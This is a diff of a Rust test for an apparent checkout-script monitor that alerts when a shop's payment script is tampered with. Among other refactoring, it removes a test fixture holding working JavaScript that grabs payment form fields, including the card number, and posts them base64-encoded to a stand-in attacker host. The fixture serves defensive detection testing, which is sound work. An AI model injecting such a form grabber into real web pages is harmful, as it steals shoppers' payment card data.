@@ -7,7 +7,6 @@
 //! Also: forged reports cannot point the fetcher at loopback services, the metadata address
 //! or the local network, and `config check` reads the fetcher's CA file.
 
-use std::path::Path;
 use std::time::Duration;
 
 use bytes::Bytes;
@@ -19,64 +18,12 @@ use crate::script_monitor::visit;
 
 const TOKEN: &str = "an-admin-token-for-fetch-tests";
 
-/// The injection: the demo's checkout script with a form grabber appended that posts the
-/// payment form, base64-encoded, to a host of the attacker's (after the kits described in
-/// `crates/scripts/testdata/README.md`; the destination is under `.invalid`).
-const INJECTED: &str = r#"
-(function () {
-  var f = document.getElementById("payment");
-  if (!f || location.pathname.indexOf("checkout") < 0) return;
-  f.addEventListener("submit", function () {
-    var d = {};
-    for (var i = 0; i < f.elements.length; i++) {
-      var el = f.elements[i];
-      if (el.name) d[el.name] = el.value;
-    }
-    d.card = f.elements["cc-number"].value;
-    fetch("https://harbor-hill-cdn.invalid/collect", {
-      method: "POST",
-      mode: "no-cors",
-      body: btoa(JSON.stringify(d))
-    });
-  });
-})();
-"#;
-
-fn copy_dir(from: &Path, to: &Path) {
-    std::fs::create_dir_all(to).unwrap();
-    for entry in std::fs::read_dir(from).unwrap() {
-        let entry = entry.unwrap();
-        let target = to.join(entry.file_name());
-        if entry.file_type().unwrap().is_dir() {
-            copy_dir(&entry.path(), &target);
-        } else {
-            std::fs::copy(entry.path(), target).unwrap();
-        }
-    }
-}
-
 fn api(path: &str) -> Request<Full<Bytes>> {
     Request::get(path)
         .header("host", "localhost")
         .header("authorization", format!("Bearer {TOKEN}"))
         .body(Full::new(Bytes::new()))
         .unwrap()
-}
-
-/// The webhook's alerts so far, as (kind, event).
-fn alerts(received: &std::sync::Mutex<Vec<(String, Bytes)>>) -> Vec<(String, serde_json::Value)> {
-    received
-        .lock()
-        .unwrap()
-        .iter()
-        .map(|(_, body)| {
-            let v: serde_json::Value = serde_json::from_slice(body).unwrap();
-            (
-                v["event"]["kind"].as_str().unwrap_or_default().to_owned(),
-                v["event"].clone(),
-            )
-        })
-        .collect()
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -165,7 +112,7 @@ async fn a_skimmed_checkout_script_is_fetched_at_once_and_alerts() {
     );
     assert_eq!(first[0]["analysis"]["malicious"], false, "{}", first[0]);
     let news = eventually(Duration::from_secs(15), || async {
-        let got = alerts(&received);
+        let got = webhook_alerts(&received);
         let scripts = got.iter().filter(|(k, _)| k == "new-script").count();
         (scripts >= 3).then_some(got)
     })
@@ -178,12 +125,12 @@ async fn a_skimmed_checkout_script_is_fetched_at_once_and_alerts() {
 
     // The checkout script is skimmed on the server; the next visit runs it.
     let mut skimmed = original.clone();
-    skimmed.extend_from_slice(INJECTED.as_bytes());
+    skimmed.extend_from_slice(SKIMMER.as_bytes());
     std::fs::write(shop.join("js/checkout.js"), &skimmed).unwrap();
     visit(page.clone()).await;
 
     let got = eventually(Duration::from_secs(30), || async {
-        let got = alerts(&received);
+        let got = webhook_alerts(&received);
         let has = |kind: &str| got.iter().any(|(k, _)| k == kind);
         (has("script-changed") && has("script-malicious")).then_some(got)
     })
@@ -191,7 +138,7 @@ async fn a_skimmed_checkout_script_is_fetched_at_once_and_alerts() {
     .unwrap_or_else(|| {
         panic!(
             "no script-changed and script-malicious alerts; got {:?}\n{}",
-            alerts(&received),
+            webhook_alerts(&received),
             parapet.stderr()
         )
     });
